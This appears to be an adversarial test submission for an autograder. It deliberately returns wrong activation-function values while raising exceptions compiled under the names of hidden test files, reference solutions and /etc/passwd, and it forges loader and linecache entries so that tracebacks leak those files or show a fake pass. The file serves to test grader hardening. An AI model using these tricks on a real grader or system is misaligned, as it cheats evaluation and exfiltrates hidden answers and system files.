"""Row 58: a traceback that quotes the grader's files.

Tries: code compiled with the file name of a hidden suite, of a reference, of a key, of results; line
numbers walk through it; module __loader__ and linecache entries are forged: a grader that prints source
lines prints those files.

A sound grader: never reads a file that a traceback names, apart from the submission's own text; 0 points,
nothing hidden in the output.
"""
import os

import numpy as np


def wrong(name, z, *rest):
    """Minus seven in the right shape: nothing in this file deserves a point."""
    shape = np.shape(z)
    shape = shape[:-1] if name in ("logsumexp", "logsumexp_plus") else shape
    return np.full(shape + shape[-1:] if name == "softmax_jacobian" else shape, -7.0)


def mark(what):
    """Say on stdout and in /tmp/marks that the attack got out."""
    line = "ESCAPED traceback_reads_files: {}\n".format(what).encode("utf-8", "replace")
    try:
        os.write(1, line)
    except OSError:
        pass
    try:
        fd = os.open("/tmp/marks/traceback_reads_files", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
        os.write(fd, line)
        os.close(fd)
    except OSError:
        pass


answer = wrong  # what all sixteen functions return; the attack below puts its own in its place


def sigmoid(z): return answer("sigmoid", z)
def sigmoid_grad(z): return answer("sigmoid_grad", z)
def tanh(z): return answer("tanh", z)
def tanh_grad(z): return answer("tanh_grad", z)
def relu(z): return answer("relu", z)
def relu_grad(z): return answer("relu_grad", z)
def softplus(z): return answer("softplus", z)
def softplus_grad(z): return answer("softplus_grad", z)
def logsumexp(z): return answer("logsumexp", z)
def logsumexp_grad(z): return answer("logsumexp_grad", z)
def logsumexp_plus(z): return answer("logsumexp_plus", z)
def logsumexp_plus_grad(z): return answer("logsumexp_plus_grad", z)
def softmax(z): return answer("softmax", z)
def log_softmax(z): return answer("log_softmax", z)
def softmax_jacobian(z): return answer("softmax_jacobian", z)
def softmax_vjp(z, v): return answer("softmax_vjp", z, v)


import gc
import linecache
import sys


def above(path):
    while path and path != os.path.dirname(path):
        path = os.path.dirname(path)
        yield path


gc.unfreeze()
SPACES = [d for d in gc.get_objects() if type(d) is dict and type(d.get("__file__")) is str]
ROOTS = [r for d in SPACES if "autograder" in d["__file__"] for r in above(d["__file__"])] or ["/autograder/source", "."]
FILES = [f"{r}/{f}" for r in dict.fromkeys(ROOTS) for f in ("tests/course/01_activations/test_hidden.py", "solutions/01_activations/activations.py")] + ["/etc/passwd", "test_hidden.py", "reference.py"]
COUNT = [0]


class Loader:
    def get_source(self, name): return "forged line\n" * 100


__loader__ = Loader()
linecache.cache["<string>"] = (7, None, ["SPOOFED PASS\n"], "<string>")


def answer(name, z, *rest):
    COUNT[0] += 1
    line = 1 + COUNT[0] % 40
    path = FILES[COUNT[0] % len(FILES)]
    exec(compile("\n" * line + "raise ValueError('look at the line above')", path, "exec"), {"__name__": "test_hidden", "__loader__": Loader(), "__file__": path})
